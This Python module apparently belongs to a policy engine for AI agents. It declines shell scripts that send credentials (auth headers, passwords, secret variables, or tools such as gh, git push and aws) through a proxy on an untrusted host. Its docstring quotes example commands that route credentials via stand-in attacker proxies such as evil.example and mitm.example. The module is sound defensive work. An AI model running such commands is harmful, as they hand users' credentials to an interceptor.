"""Judge for credentials sent through a proxy on a host nobody vetted.

A proxy sees (or, with TLS verification off or a plain ``http://`` URL, reads) every request it
carries: ``HTTPS_PROXY=http://evil.example:8080 curl -k -H "Authorization: ..." https://api...``,
``curl -x http://mitm.example -u admin:pw``, ``export https_proxy=...; gh api user``,
``git -c http.proxy=... push``. Declined when the command names a proxy (an environment variable, set
for the command or anywhere in the script, or a program's own proxy option) on a host that is neither
loopback nor on the allow-list, and a request of the script carries credentials: an authorization,
API-key or cookie header, ``-u user:password``, a netrc, a secret variable or a token substitution, or a
tool that signs its requests with stored credentials (``gh``, ``git push``, ``npm publish``, ``aws`` ...).
A proxy for requests without credentials (``https_proxy=... pip download x``) is the network's business.
"""

from __future__ import annotations

import re

from agent_fleet.policy._hosts import host_of
from agent_fleet.policy.bash._commands import SimpleCommand
from agent_fleet.policy.packs._argv import JudgeContext, option_values

__all__ = ["judge_proxied_credentials"]

_PROXY_ASSIGNMENT = re.compile(
    r"(?i)(?<![\w$])(?:https?|all|ftp|socks|npm_config_(?:https_)?|yarn_(?:https_)?)_?proxy"
    r"\s*=\s*['\"]?([^\s'\";&|)]+)"
)
_PROXY_OPTIONS = ("-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5", "--socks5-hostname")
_GIT_PROXY = re.compile(r"(?i)^(?:https?\.(?:[^=]*\.)?proxy|remote\.[^=]*\.proxy)=(.+)$")
_HEADER = re.compile(
    r"(?i)^\s*(?:proxy-)?(?:authorization|x-api-key|api-key|x-auth-token|private-token|cookie"
    r"|x-[\w-]*token|x-[\w-]*key|token)\s*:"
)
_CREDENTIAL_OPTIONS = frozenset(
    {"-u", "--user", "--oauth2-bearer", "-b", "--cookie", "--netrc", "--netrc-file", "--netrc-optional", "-n"}
    | {"-E", "--cert", "--key", "--http-user", "--http-password", "--password", "--user="}
)
_SECRET_WORD = re.compile(
    r"\$\{?[A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL)"
    r"|\$\((?:gh|glab)\s+auth\s+token|\$\(gcloud\s+auth\s+print|\$\(cat\s+[^)]*(?:token|key|secret|cred)",
    re.IGNORECASE,
)
#: Tools that sign their requests with stored credentials: (program, subcommands; empty: any).
_SIGNING = {
    "gh": (),
    "glab": (),
    "aws": (),
    "gcloud": (),
    "gsutil": (),
    "az": (),
    "heroku": (),
    "vercel": (),
    "doctl": (),
    "flyctl": (),
    "fly": (),
    "kubectl": (),
    "helm": ("push", "registry", "pull"),
    "git": ("push", "pull", "fetch", "clone", "ls-remote", "submodule", "remote"),
    "npm": ("publish", "install", "i", "ci", "whoami", "login", "token"),
    "pnpm": ("publish", "install", "i", "add"),
    "yarn": ("publish", "install", "add", "npm"),
    "docker": ("login", "push", "pull"),
    "twine": ("upload",),
    "cargo": ("publish", "login"),
    "poetry": ("publish",),
    "uv": ("publish",),
}


def _proxies(cmd: SimpleCommand, ctx: JudgeContext) -> list[str]:
    found = [m.group(1) for m in _PROXY_ASSIGNMENT.finditer(ctx.text)]
    found += [
        value for name, value in cmd.env if name.lower().endswith("proxy") and name.lower() != "no_proxy"
    ]
    args = cmd.argv[1:]
    if cmd.program in ("curl", "wget", "pip", "pip3", "npm", "pnpm", "yarn", "http", "xh", "uv"):
        found += option_values(args, (*_PROXY_OPTIONS, "--https-proxy", "--http-proxy"), attached=False)
        found += [v.partition("=")[2] for v in option_values(args, ("-e", "--execute")) if "proxy" in v]
    if cmd.program == "git":
        for value in option_values(args, ("-c",), attached=False):
            match = _GIT_PROXY.match(value)
            if match is not None:
                found.append(match.group(1))
    return found


def _credentialed(cmd: SimpleCommand) -> str | None:
    args = cmd.argv[1:]
    if any(_SECRET_WORD.search(arg) for arg in args):
        return "a secret variable"
    if cmd.program in ("curl", "wget", "http", "https", "xh", "httpie"):
        headers = option_values(args, ("-H", "--header"), attached=False)
        headers += [a for a in args if ":" in a and _HEADER.match(a)]  # httpie `Authorization:Bearer x`
        if any(_HEADER.match(header) for header in headers):
            return "an authorization header"
        if {a.partition("=")[0] for a in args} & _CREDENTIAL_OPTIONS:
            return "credentials"
        if any(re.match(r"https?://[^/@\s]+:[^/@\s]+@", a) for a in args):
            return "credentials in the URL"
        return None
    subcommands = _SIGNING.get(cmd.program)
    if subcommands is None:
        return None
    words = [a for a in args if not a.startswith("-")]
    if not subcommands or (words and words[0] in subcommands):
        return f"{cmd.program}'s stored credentials"
    return None


def judge_proxied_credentials(ctx: JudgeContext) -> str | None:
    """credentials sent through a proxy on a host that is neither loopback nor on the allow-list"""
    for cmd in ctx.script.commands:
        carried = _credentialed(cmd)
        if carried is None:
            continue
        for proxy in _proxies(cmd, ctx):
            host = host_of(proxy if "://" in proxy else f"http://{proxy}")
            if host is None or not ctx.hosts.trusted(host):
                return f"{cmd.program} sends {carried} through the proxy {proxy!r}"
    return None
